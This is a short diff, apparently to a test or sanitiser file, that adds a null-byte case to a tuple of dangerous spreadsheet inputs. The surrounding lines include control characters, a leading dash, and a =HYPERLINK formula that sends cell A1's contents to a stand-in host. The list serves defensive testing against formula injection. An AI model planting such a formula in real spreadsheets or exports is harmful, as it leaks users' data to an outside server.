@@ -30,6 +30,7 @@ DANGEROUS = (
     "\tx",
     "\rx",
     "\nx",
+    "\0x",
     "-",
     '=HYPERLINK("http://example.invalid?"&A1,"click")',
 )
